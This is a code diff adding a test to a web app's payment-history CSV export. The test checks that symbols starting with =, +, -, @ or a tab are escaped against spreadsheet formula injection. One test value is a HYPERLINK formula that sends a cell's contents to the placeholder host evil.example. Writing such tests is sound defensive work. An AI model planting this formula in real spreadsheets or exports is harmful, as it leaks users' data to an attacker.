@@ -46,4 +46,14 @@ describe('the history of the web app', () => {
     ]);
     expect(csv.trimEnd().split('\r\n')).toHaveLength(4); // header, the payment, the failure (one record over two lines), the withdrawal
   });
+
+  it('opens a payer-chosen formula as text in a spreadsheet: a token symbol of =, +, - or @ gets an apostrophe', () => {
+    for (const symbol of ['=HYPERLINK("https://evil.example/?"&B2,"x")', '+1', '-1', '@SUM(A1)', '\t=1']) {
+      const history = upsertPayment(EMPTY_HISTORY, { ...scanned, symbol });
+      const row = historyCsv(history).split('\r\n')[1]!;
+      expect(row).toContain(`'${symbol.startsWith('=HYPERLINK') ? symbol.replaceAll('"', '""') : symbol}`);
+      expect(row).not.toMatch(new RegExp(`,"?[=+\\-@\\t]`));
+    }
+    expect(historyCsv(upsertPayment(EMPTY_HISTORY, { ...scanned, symbol: 'TST' })).split('\r\n')[1]).toContain(',TST,');
+  });
 });
